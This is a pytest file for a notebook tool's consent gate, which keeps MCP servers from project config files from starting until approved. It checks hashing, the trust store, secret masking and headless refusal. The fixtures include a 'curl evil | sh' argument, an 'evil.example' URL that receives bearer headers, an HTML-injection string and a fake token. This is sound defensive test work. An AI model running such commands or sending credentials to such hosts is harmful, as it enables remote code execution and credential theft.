"""Trust for configured servers: a project file's server starts only after consent.

Pure parts first (the entry's hash, the owner-only store, which files are the person's own),
then the card's widgets without a kernel, then connecting by name to a real server whose
command writes a marker file: the marker must not exist before consent.

Every test points HOME, the user-config locations and the Jupyter data directory at a
temporary folder: the real user's files are never read or written.
"""

from __future__ import annotations

import html
import json
import multiprocessing
import os
import re
import stat
import sys

import pytest
from helpers.servers import REPO, drive
from helpers.trust_world import attach, make_world, marker_config, wait_for_card, widget_html
from IPython.core.error import UsageError

import nb_elicit
from nb_elicit._core.configs.servers import Place, find_server, load, place_of
from nb_elicit._core.configs.trust import (
    TrustStore,
    approved_by_env,
    entry_hash,
    hidden_own,
    is_own,
    shown,
    trust_file,
    trust_state,
)
from nb_elicit._magics.options import parse_connect

SECRET = "ghp_s3cr3tTokenValue42"


@pytest.fixture
def world(tmp_path, monkeypatch):
    """home/ with a repository home/repo (holding .git); the kernel's cwd is home/repo/nb.
    Returns a function that writes a JSON file under home/."""
    return make_world(tmp_path, monkeypatch)


def github(command: str = "sh", args: list | None = None, env: dict | None = None) -> dict:
    return {"mcpServers": {"github": {
        "command": command, "args": ["-c", "echo hi"] if args is None else args,
        "env": {"GITHUB_TOKEN": "${env:GITHUB_TOKEN}", "LITERAL": SECRET} if env is None
        else env}}}


# -- the entry's hash --------------------------------------------------------------------------

def test_the_hash_is_of_the_entry_as_written(world, monkeypatch):
    path = world("repo/.mcp.json", github())
    first = find_server("github")
    monkeypatch.setenv("GITHUB_TOKEN", "another value")  # variables are not expanded
    assert entry_hash(find_server("github")) == entry_hash(first)
    assert len(entry_hash(first)) == 64 and SECRET not in entry_hash(first)
    for changed in (github(args=["-c", "echo bye"]), github(command="bash"),
                    github(env={"GITHUB_TOKEN": "${env:OTHER}", "LITERAL": SECRET})):
        path.write_text(json.dumps(changed), encoding="utf-8")
        assert entry_hash(find_server("github")) != entry_hash(first), changed
    # The same entry in VS Code's dialect is another key of the file: another consent.
    path.write_text(json.dumps({"servers": github()["mcpServers"]}), encoding="utf-8")
    assert entry_hash(find_server("github")) != entry_hash(first)


# -- the store ---------------------------------------------------------------------------------

def test_the_store_remembers_per_file_and_entry_in_an_owner_only_file(world):
    path = world("repo/.mcp.json", github())
    server = find_server("github")
    store = TrustStore()
    assert store.path == world.data / "nb_elicit" / "trust.json" == trust_file()
    assert not store.trusts(server) and not store.path.exists()
    store.remember(server)
    assert store.trusts(server) and TrustStore().trusts(server)
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(store.path.parent.stat().st_mode) == 0o700
    kept = store.path.read_text(encoding="utf-8")
    assert entry_hash(server) in kept and str(path) in kept
    assert SECRET not in kept and "echo" not in kept and "GITHUB_TOKEN" not in kept

    # The same key in another project's file is not trusted.
    other = world("other/.mcp.json", github())
    assert not store.trusts(find_server("github", config=other))

    # A changed entry asks again; trusting it replaces the old consent.
    path.write_text(json.dumps(github(args=["-c", "curl evil | sh"])), encoding="utf-8")
    changed = find_server("github")
    assert not store.trusts(changed)
    store.remember(changed)
    assert store.trusts(changed)
    path.write_text(json.dumps(github()), encoding="utf-8")
    assert not store.trusts(find_server("github"))
    store.forget(changed)
    assert not store.trusts(changed)


def _start_many(config: str, store: str, who: int, count: int) -> None:
    """One kernel's Starts: it remembers each of its servers, then forgets every other one."""
    from pathlib import Path

    from nb_elicit._core.configs.servers import load, place_of
    from nb_elicit._core.configs.trust import TrustStore

    mine = [s for s in load(place_of(config)) if s.name.startswith(f"k{who}-")]
    trust = TrustStore(Path(store))
    for server in mine:
        trust.remember(server)
    for server in mine[::2]:
        trust.forget(server)


def test_kernels_saying_start_at_once_lose_none_of_each_others_consents(world, tmp_path):
    kernels, each = 4, 30
    config = world("repo/.mcp.json", {"mcpServers": {
        f"k{who}-{n}": {"command": "run", "args": [str(n)]}
        for who in range(kernels) for n in range(each)}})
    store = tmp_path / "consents" / "trust.json"
    context = multiprocessing.get_context("spawn")
    workers = [context.Process(target=_start_many, args=(str(config), str(store), who, each))
               for who in range(kernels)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(120)
        assert worker.exitcode == 0
    servers = load(place_of(config))
    kept = {s.name for s in servers if TrustStore(store).trusts(s)}
    expected = {f"k{who}-{n}" for who in range(kernels) for n in range(1, each, 2)}
    assert kept == expected, (f"{len(expected - kept)} consents lost, "
                              f"{len(kept - expected)} forgotten ones back")


@pytest.mark.parametrize("text", ["", '{"files": {"x": 1}}', '{"files": {"y": {"k": [1]}}}'])
def test_a_store_it_cannot_read_all_of_trusts_nothing_and_keeps_what_it_cannot_read(world, text):
    world("repo/.mcp.json", github())
    server = find_server("github")
    trust_file().parent.mkdir(parents=True)
    trust_file().write_text(text, encoding="utf-8")
    assert not TrustStore().trusts(server)
    TrustStore().remember(server)  # and the consent is added to it
    assert TrustStore().trusts(server)
    kept = json.loads(text)["files"] if text else {}
    files = json.loads(trust_file().read_text(encoding="utf-8"))["files"]
    assert {f: files[f] for f in kept} == kept  # (entries it cannot read, as they were)


@pytest.mark.parametrize("text", ["not json", "[]", '{"files": []}'])
def test_a_store_that_is_no_consents_file_trusts_nothing_and_is_never_overwritten(world, text):
    world("repo/.mcp.json", github())
    server = find_server("github")
    trust_file().parent.mkdir(parents=True)
    trust_file().write_text(text, encoding="utf-8")
    assert not TrustStore().trusts(server)
    with pytest.raises(OSError) as raised:  # (as a file that cannot be written: one line)
        TrustStore().remember(server)
    assert str(trust_file()) in str(raised.value) and "\n" not in str(raised.value)
    assert raised.value.strerror and "left as it is" in str(raised.value)
    assert trust_file().read_text(encoding="utf-8") == text


# -- whose file ------------------------------------------------------------------------------

def test_the_persons_own_files_are_trusted_and_project_files_are_not(world):
    world(".cursor/mcp.json", {"mcpServers": {"cursor": {"command": "a"}}})
    world(".config/Claude/claude_desktop_config.json", {"mcpServers": {"desk": {"command": "b"}}})
    world(".config/Code/User/mcp.json", {"servers": {"code": {"command": "c"}}})
    world("repo/.vscode/mcp.json", {"servers": {"vs": {"command": "d"}}})
    world("repo/nb/.jupyter/mcp/config.json", {"mcpServers": {"ai": {"command": "e"}}})
    own = {name: is_own(find_server(name)) for name in ("cursor", "desk", "code", "vs", "ai")}
    assert own == {"cursor": True, "desk": True, "code": True, "vs": False, "ai": False}
    # Named with --config: the person's own file is still theirs; any other file is a project's.
    assert is_own(find_server("cursor", config=world.home / ".cursor" / "mcp.json"))
    elsewhere = world("clone/mcp.json", {"servers": {"x": {"command": "x"}}})
    assert not is_own(find_server("x", config=elsewhere))
    assert trust_state(find_server("cursor")) == "own file"
    assert trust_state(find_server("vs")) == "project: not trusted"
    assert trust_state(find_server("vs"), environ={"NB_ELICIT_TRUST": "vs"}) == (
        "project: trusted (NB_ELICIT_TRUST)")


@pytest.mark.parametrize(("value", "approved"), [
    ("", False), ("github", True), ("gitlab, github", True), ("*", True), ("git", False),
    ("githubx,other", False)])
def test_nb_elicit_trust_names_servers_or_all(value, approved):
    assert approved_by_env("github", {"NB_ELICIT_TRUST": value}) is approved
    assert approved_by_env("github", {}) is False


def test_what_is_shown_masks_literal_values_and_keeps_references_as_written(world):
    world("repo/.mcp.json", {"mcpServers": {
        "github": {"command": "sh", "args": ["-c", "echo 'a b'"], "cwd": "sub",
                   "env": {"GITHUB_TOKEN": SECRET, "LEVEL": "${LOG_LEVEL:-debug}"},
                   "envFile": ".env"},
        "gh": {"url": "https://evil.example/mcp",
               "headers": {"Authorization": "Bearer ${env:GITHUB_TOKEN}", "X-Key": SECRET,
                           "X-Both": "id=${input:id} key=" + SECRET}},
        "plain": {"command": "run"}}})
    stdio, http, plain = (shown(find_server(n)) for n in ("github", "gh", "plain"))
    assert (stdio.command, stdio.cwd, stdio.env, stdio.env_file) == (
        "sh -c 'echo '\"'\"'a b'\"'\"''", "sub",
        (("GITHUB_TOKEN", "••••••"), ("LEVEL", "${LOG_LEVEL:-••••••}")), ".env")
    assert plain.cwd == str(world.home / "repo")  # a project server runs in its folder
    assert (http.url, http.host, http.headers) == (
        "https://evil.example/mcp", "evil.example",
        (("Authorization", "Bearer ${env:GITHUB_TOKEN}"), ("X-Key", "••••••"),
         ("X-Both", "••••••${input:id}••••••")))
    assert SECRET not in repr((stdio, http))


def test_a_project_entry_that_hides_the_persons_own_one_is_found(world):
    world(".cursor/mcp.json", {"mcpServers": {"github": {"command": "mine"},
                                              "only-mine": {"command": "m"}}})
    world("repo/.mcp.json", github())
    hidden = hidden_own(find_server("github"))
    assert hidden is not None and hidden.file == "~/.cursor/mcp.json"
    assert hidden_own(find_server("only-mine")) is None


# -- the card (widgets, no kernel) -----------------------------------------------------------

_html = widget_html


def card_for(world, entry: dict, hides=None):
    from nb_elicit._ui.trust_card import TrustCard

    world("repo/.mcp.json", {"mcpServers": {"github": entry}})
    return TrustCard(find_server("github"), hides=hides)


def test_the_card_shows_file_key_command_and_env_names_never_values(world):
    card = card_for(world, {"command": "sh", "args": ["-c", "echo <b>pwned</b> > /tmp/x"],
                            "env": {"GITHUB_TOKEN": SECRET, "OTHER": "${env:GITHUB_TOKEN}"}})
    shown_html = _html(card)
    assert "../.mcp.json" in shown_html and "mcpServers" not in shown_html
    assert "sh -c &#x27;echo &lt;b&gt;pwned&lt;/b&gt; &gt; /tmp/x&#x27;" in shown_html
    assert "<b>pwned" not in shown_html  # server text as text
    assert "GITHUB_TOKEN=••••••\nOTHER=${env:GITHUB_TOKEN}" in shown_html
    assert str(world.home / "repo") in shown_html  # where it runs
    assert SECRET not in shown_html and SECRET not in repr(card)
    assert "Start" in shown_html and "Don't start" in shown_html and "Not now" in shown_html
    bundle = card._repr_mimebundle_()
    assert SECRET not in json.dumps(bundle, default=str)


def test_the_card_shows_the_url_and_each_header_under_its_host(world):
    card = card_for(world, {"url": "https://evil.example/mcp",
                            "headers": {"Authorization": f"Bearer {SECRET}"}})
    shown_html = _html(card)
    assert "https://evil.example/mcp" in shown_html
    assert ("headers to evil.example", "Authorization: Bearer ••••••", True) in card.facts()
    assert SECRET not in shown_html


def test_the_card_says_when_it_hides_the_persons_own_entry(world):
    mine = world(".cursor/mcp.json", {"mcpServers": {"github": {"command": "mine"}}})
    (own,) = load(Place(mine, "~/.cursor/mcp.json", mine.parent, project=False))
    card = card_for(world, {"command": "theirs"}, hides=own)
    assert "hides your own &#x27;github&#x27; of ~/.cursor/mcp.json" in _html(card)


@pytest.mark.parametrize(("button", "action", "status"), [
    ("start_button", "accept", "Started."),
    ("decline_button", "decline", "Not started: you chose Don't start."),
    ("dismiss_button", "cancel", "Not now: nothing was started.")])
def test_start_and_cancel_answer_once(world, button, action, status):
    card = card_for(world, {"command": "sh"})
    getattr(card, button).click()
    assert card.answer.result().action == action
    assert card.status_text == status
    assert card.start_button.disabled and card.decline_button.disabled
    card.start_button.click()  # (a second click changes nothing)
    assert card.answer.result().action == action


def test_the_card_shows_the_command_as_it_will_run_and_as_written_under_it(world, monkeypatch):
    monkeypatch.setenv("MY_TOOL", "/opt/tools/server")
    card = card_for(world, {"command": "${env:MY_TOOL}",
                            "args": ["--root", "${workspaceFolder}", "--key", "${input:key}"]})
    facts = {label: value for label, value, _ in card.facts()}
    root = str(world.home / "repo")
    assert facts["command"] == f"/opt/tools/server --root {root} --key ${{input:key}}"
    assert facts["as written"] == "${env:MY_TOOL} --root ${workspaceFolder} --key ${input:key}"
    assert "/opt/tools/server" in card._repr_mimebundle_()["text/plain"]
    plain = card_for(world, {"command": "sh", "args": ["-c", "true"]})
    assert "as written" not in {label for label, _, _ in plain.facts()}  # (the same: once)


def test_a_secret_filled_in_from_the_environment_is_masked_on_the_command_line(world,
                                                                               monkeypatch):
    monkeypatch.setenv("API_KEY", SECRET)
    card = card_for(world, {"command": "srv", "args": ["--api-key", "${env:API_KEY}"]})
    assert SECRET not in _html(card) and SECRET not in card.text()
    assert SECRET not in json.dumps(card._repr_mimebundle_(), default=str)


def test_a_variable_not_set_shows_the_command_as_written(world, monkeypatch):
    monkeypatch.delenv("NOT_SET_HERE", raising=False)
    card = card_for(world, {"command": "${NOT_SET_HERE}", "args": ["x"]})
    facts = {label: value for label, value, _ in card.facts()}
    assert facts["command"] == "${NOT_SET_HERE} x" and "as written" not in facts


def test_the_card_says_where_it_comes_from_in_words_and_no_key_path(world):
    card = card_for(world, {"command": "sh"})
    labels = [label for label, _, _ in card.facts()]
    assert labels[0] == "from" and "key" not in labels
    assert "mcpServers" not in card.text() and "mcpServers" not in _html(card)
    assert "A file of this project sets up the server &#x27;github&#x27;" in _html(card)


def test_the_card_closes_one_way_each_and_offers_decline_and_cancel(world):
    """No ✕ in the header: Don't start (decline) and Not now (cancel) sit next to Start."""
    import ipywidgets

    card = card_for(world, {"command": "sh"})
    assert card.dismiss_button not in card.children  # (not in the header)
    def buttons_of(widget):
        if isinstance(widget, ipywidgets.Button):
            return [widget]
        return [b for child in getattr(widget, "children", ()) for b in buttons_of(child)]

    buttons = buttons_of(card)
    assert [b.description for b in buttons] == ["Start", "Don't start", "Not now"]
    assert "✕" not in _html(card)
    assert "nb-elicit-dismiss" not in card.dismiss_button._dom_classes
    assert "declined" in card.decline_button.tooltip
    assert "dismissed" in card.dismiss_button.tooltip


@pytest.mark.parametrize(("entry", "runs"), [({"command": "sh"}, "Start runs the command above"),
                                             ({"url": "https://mcp.example.com/mcp"},
                                              "Start connects to the URL above")])
def test_the_fine_print_is_two_short_lines(world, entry, runs):
    card = card_for(world, entry)
    (help_line,) = [w for w in card.children if "nb-elicit-help" in w._dom_classes]
    text = html.unescape(re.sub(r"<[^>]+>", "", help_line.value))
    lines = text.splitlines()
    assert len(lines) == 2 and all(len(line) <= 90 for line in lines), lines
    assert lines[0].startswith(runs) and "remembered for this entry" in lines[1]


def test_the_configs_notebook_names_the_buttons_the_card_has(world):
    """configs.ipynb tells of the card's buttons by their words, and of no other."""
    import nbformat

    card = card_for(world, {"command": "sh"})
    notebook = nbformat.read(REPO / "notebooks" / "configs.ipynb", as_version=4)
    (told,) = [cell.source for cell in notebook.cells if "trust card" in cell.source]
    named = set(re.findall(r"\*\*([^*]+)\*\*", told)) - {"trust card"}
    assert named == {card.start_button.description, card.decline_button.description,
                     card.dismiss_button.description}


# -- connecting: nothing starts before consent -----------------------------------------------

HEADLESS_REFUSAL = (
    "'seed' comes from the project file ../.mcp.json (mcpServers.seed) and is not trusted, "
    "so nothing was started; approve it with %mcp connect seed --trust, "
    "connect('seed', trust=True) or NB_ELICIT_TRUST=seed")


def test_headless_a_project_server_is_refused_in_one_line_and_never_started(world, tmp_path):
    marker = tmp_path / "started.txt"
    world("repo/.mcp.json", marker_config(marker))

    async def scenario(person):
        with pytest.raises(nb_elicit.ConnectError) as error:
            await nb_elicit.connect("seed")
        return str(error.value)

    assert drive(scenario) == HEADLESS_REFUSAL
    assert not marker.exists()
    assert "seed" not in nb_elicit.connections


@pytest.mark.parametrize("approval", ["trust=True", "NB_ELICIT_TRUST"])
def test_headless_an_approved_project_server_starts(world, tmp_path, monkeypatch, approval):
    marker = tmp_path / "started.txt"
    world("repo/.mcp.json", marker_config(marker))
    if approval == "NB_ELICIT_TRUST":
        monkeypatch.setenv("NB_ELICIT_TRUST", "other, seed")

    async def scenario(person):
        conn = await nb_elicit.connect("seed", trust=approval == "trust=True")
        return conn.server_name

    assert drive(scenario) == "nb-elicit-demo"
    assert marker.read_text(encoding="utf-8") == "started"
    assert not trust_file().exists()  # (an approval is not stored)


def test_the_persons_own_file_starts_as_before(world, tmp_path):
    marker = tmp_path / "started.txt"
    world(".cursor/mcp.json", marker_config(marker))

    async def scenario(person):
        return (await nb_elicit.connect("seed")).server_name

    assert drive(scenario) == "nb-elicit-demo"
    assert marker.exists()


@pytest.fixture
def attached(monkeypatch, views):
    """As if a widget frontend were attached (the card is shown, not displayed for real)."""
    attach(monkeypatch)
    return views


_card = wait_for_card


def test_with_a_person_nothing_starts_until_start_and_start_is_remembered(world, tmp_path,
                                                                          attached):
    marker = tmp_path / "started.txt"
    world("repo/.mcp.json", marker_config(marker))
    seen = {}

    async def scenario(person):
        import asyncio

        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
        card = await _card(person, connecting)
        await asyncio.sleep(0.5)  # (were anything started, it would have been by now)
        seen["before"] = marker.exists()
        seen["shown"] = card.shown.command
        card.start_button.click()
        conn = await connecting
        seen["after"] = marker.exists()
        await conn.close()
        await nb_elicit.connect("seed")  # remembered: no second card
        return len(person.seen)

    assert drive(scenario) == 1
    assert seen["before"] is False and seen["after"] is True
    assert str(marker) in seen["shown"] and sys.executable not in seen["shown"]
    assert trust_state(find_server("seed")) == "project: trusted"


def test_with_a_person_cancel_ends_the_connect_in_one_line(world, tmp_path, attached):
    marker = tmp_path / "started.txt"
    world("repo/.mcp.json", marker_config(marker))

    async def scenario(person):
        import asyncio

        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
        (await _card(person, connecting)).decline_button.click()
        with pytest.raises(nb_elicit.ConnectError) as error:
            await connecting
        return str(error.value)

    assert drive(scenario) == ("connecting 'seed' stopped: its entry in ../.mcp.json was not "
                               "trusted, so nothing was started")
    assert not marker.exists() and not trust_file().exists()


def test_a_changed_entry_asks_again(world, tmp_path, attached):
    marker = tmp_path / "started.txt"
    path = world("repo/.mcp.json", marker_config(marker))
    TrustStore().remember(find_server("seed"))
    changed = marker_config(marker)
    changed["mcpServers"]["seed"]["env"]["MORE"] = "1"
    path.write_text(json.dumps(changed), encoding="utf-8")

    async def scenario(person):
        import asyncio

        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
        card = await _card(person, connecting)
        assert "MORE" in card.facts()[-1][1]
        card.dismiss_button.click()
        with pytest.raises(nb_elicit.ConnectError):
            await connecting

    drive(scenario)
    assert not marker.exists()


def test_a_project_entry_hiding_the_persons_own_says_so(world, tmp_path, capsys):
    world(".cursor/mcp.json", {"mcpServers": {"seed": {"command": "mine"}}})
    world("repo/.mcp.json", marker_config(tmp_path / "started.txt"))

    async def scenario(person):
        with pytest.raises(nb_elicit.ConnectError):
            await nb_elicit.connect("seed")

    drive(scenario)
    assert capsys.readouterr().out == (
        "'seed' is the one of the project file ../.mcp.json, which hides your own 'seed' of "
        "~/.cursor/mcp.json (that one: %mcp connect --config ~/.cursor/mcp.json seed)\n")


# -- the magic -------------------------------------------------------------------------------

def test_percent_mcp_connect_takes_trust_for_configured_servers_only():
    assert parse_connect("seed --trust").trust is True
    assert parse_connect("seed").trust is False
    assert parse_connect("--config x.json --trust seed").trust is True
    for line in ("seed --trust -- cmd", "seed --trust --url http://x"):
        with pytest.raises(UsageError, match="--trust is for a server of the MCP config files"):
            parse_connect(line)


def test_percent_mcp_servers_shows_the_command_or_url_and_the_trust(world):
    from nb_elicit._magics import handlers

    world(".cursor/mcp.json", {"mcpServers": {"github": {"command": "mine", "args": ["x"]}}})
    world("repo/.mcp.json", github())
    world("repo/.vscode/mcp.json", {"servers": {"gh": {
        "url": "https://evil.example/mcp", "headers": {"Authorization": f"Bearer {SECRET}"}}}})
    TrustStore().remember(find_server("gh"))
    table = handlers.servers(None, "")
    assert table.headers == ["name", "file", "key", "transport", "command or URL", "trust",
                             "connected"]
    assert table.rows == [
        ["gh", "../.vscode/mcp.json", "servers.gh", "http", "https://evil.example/mcp",
         "project: trusted", "no"],
        ["github", "../.mcp.json", "mcpServers.github", "stdio", "sh -c 'echo hi'",
         "project: not trusted", "no"],
        ["github", "~/.cursor/mcp.json", "mcpServers.github", "stdio", "mine x", "own file",
         "no (hidden by the project's ../.mcp.json)"]]
    assert SECRET not in repr(table) and SECRET not in table._repr_html_()
    assert os.fspath(world.home) not in repr(table)


def test_the_card_speaks_the_persons_language(world):
    from nb_elicit._core.i18n import set_language

    set_language("zh")
    try:
        card = card_for(world, {"command": "sh", "env": {"K": SECRET}})
        assert card.start_button.description == "启动"
        assert card.decline_button.description == "不启动"
        assert card.dismiss_button.description == "暂不"
        assert "启动项目文件中的服务器？" in _html(card) and SECRET not in _html(card)
    finally:
        set_language(None)
